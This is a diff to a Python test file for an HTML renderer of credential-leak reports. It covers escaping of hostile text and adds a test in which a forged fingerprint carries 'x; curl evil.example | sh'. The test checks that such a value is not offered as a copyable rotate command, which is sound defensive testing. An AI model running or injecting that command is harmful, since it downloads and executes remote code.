@@ -67,8 +67,9 @@ def test_nothing_is_loaded_from_anywhere() -> None:
 )
 def test_no_text_makes_markup(hostile: str) -> None:
     """A page whose texts are hostile has element for element and attribute for attribute what the tame one has."""
-    tame = map_text(a_leak(), lambda text: text if text in OURS else f"{text}x")
-    nasty = map_text(a_leak(), lambda text: text if text in OURS else f"{text}x{hostile}")
+    kept = {*OURS, a_leak().credentials[0].fingerprint}
+    tame = map_text(a_leak(), lambda text: text if text in kept else f"{text}x")
+    nasty = map_text(a_leak(), lambda text: text if text in kept else f"{text}x{hostile}")
     # A patch is shown line by line, so that line breaks in it are no breach.
     assert Tags(_without_patch(nasty)).seen == Tags(_without_patch(tame)).seen
     page = render(nasty, "html")
@@ -112,3 +113,10 @@ def test_incidents_stand_on_the_timeline() -> None:
 def test_lines_of_a_patch_have_their_sorts() -> None:
     patch = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same\n"
     assert [sort for sort, _ in diff(patch)] == ["hunk", "hunk", "hunk", "del", "add", "same"]
+
+
+def test_a_fingerprint_that_is_none_is_not_offered_as_a_command() -> None:
+    report = a_leak()
+    assert "Copy rotate command" in render(report, "html")
+    forged = replace(report.credentials[0], fingerprint="x; curl evil.example | sh")
+    assert "Copy rotate command" not in render(replace(report, credentials=(forged,)), "html")
